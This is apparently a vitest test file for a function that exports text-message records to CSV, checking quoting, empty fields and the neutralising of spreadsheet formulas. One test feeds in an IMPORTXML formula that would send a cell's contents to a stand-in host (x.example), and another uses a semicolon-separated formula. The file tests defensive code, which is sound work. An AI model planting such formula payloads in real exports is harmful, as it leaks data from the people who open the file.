import { describe, expect, it } from 'vitest';
import { testMessage } from '../../../test/messageFixture';
import { UTF8_BOM } from '../../../lib/csv/csvCells';
import { messagesCsv } from './messagesCsv';

const HEADER =
  'sid,date_created,date_sent,direction,from,to,status,body,num_media,num_segments,price,price_unit,error_code,error_message,from_name,to_name\r\n';

/** The data rows of a file (after the BOM and the header), each with its CRLF. */
function rowsOf(csv: string): string {
  expect(csv.startsWith(UTF8_BOM + HEADER)).toBe(true);
  return csv.slice(UTF8_BOM.length + HEADER.length);
}

describe('messagesCsv', () => {
  it('is the BOM, a header row and one CRLF-ended row per message, in the order given, names last', () => {
    const csv = messagesCsv(
      [
        testMessage({
          sid: 'SM2',
          direction: 'outbound-api',
          isInbound: false,
          from: '+14155550100',
          to: '+14155551234',
          dateCreatedMs: Date.UTC(2026, 10, 22, 19, 0, 36),
          dateSentMs: Date.UTC(2026, 10, 22, 19, 0, 37),
          status: 'undelivered',
          body: 'Yes, it is "open"',
          numMedia: 2,
          numSegments: 1,
          price: '-0.00790',
          priceUnit: 'USD',
          errorCode: 30003,
          errorMessage: 'Unreachable destination handset',
        }),
        testMessage({ sid: 'SM1', dateCreatedMs: Date.UTC(2026, 10, 21, 8, 5, 0), body: 'Hi' }),
      ],
      { '+14155551234': { name: '=Maya, "M"' } },
    );
    expect(rowsOf(csv)).toBe(
      `SM2,2026-11-22T19:00:36Z,2026-11-22T19:00:37Z,outbound-api,"'+14155550100","'+14155551234",undelivered,"Yes, it is ""open""",2,1,-0.00790,USD,30003,Unreachable destination handset,,"'=Maya, ""M"""\r\n` +
        `SM1,2026-11-21T08:05:00Z,,inbound,"'+14155551234","'+14155550100",received,Hi,0,,,,,,"'=Maya, ""M""",\r\n`,
    );
  });

  it('leaves an unknown date, media count or error empty: never 1970, 0 or "null"', () => {
    const csv = messagesCsv(
      [testMessage({ sid: 'SM1', dateCreatedMs: null, dateSentMs: null, numMedia: null, body: 'x' })],
      {},
    );
    expect(rowsOf(csv)).toBe(`SM1,,,inbound,"'+14155551234","'+14155550100",received,x,,,,,,,,\r\n`);
    expect(csv).not.toContain('1970');
    expect(csv).not.toContain('null');
  });

  it('keeps a body with newlines, commas and emoji in one quoted field', () => {
    const body = 'Line one,\r\nline two 🚲\nthree "quoted"';
    const csv = messagesCsv([testMessage({ sid: 'SM1', body })], {});
    expect(rowsOf(csv)).toContain(`,"Line one,\r\nline two 🚲\nthree ""quoted""",`);
  });

  it('makes a formula body inert', () => {
    const csv = messagesCsv(
      [testMessage({ sid: 'SM1', body: '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")' })],
      {},
    );
    expect(rowsOf(csv)).toContain(`,"'=IMPORTXML(CONCAT(""https://x.example/?"",A1),""//a"")",`);
  });

  it("makes a formula after a semicolon inert, for Excel in a locale whose list separator is ';'", () => {
    const csv = messagesCsv([testMessage({ sid: 'SM1', body: 'Total;=1+1;ok' })], {});
    expect(rowsOf(csv)).toContain(`,"Total;'=1+1;ok",`);
  });

  it('is only the BOM and the header for no messages', () => {
    expect(messagesCsv([], {})).toBe(UTF8_BOM + HEADER);
  });
});
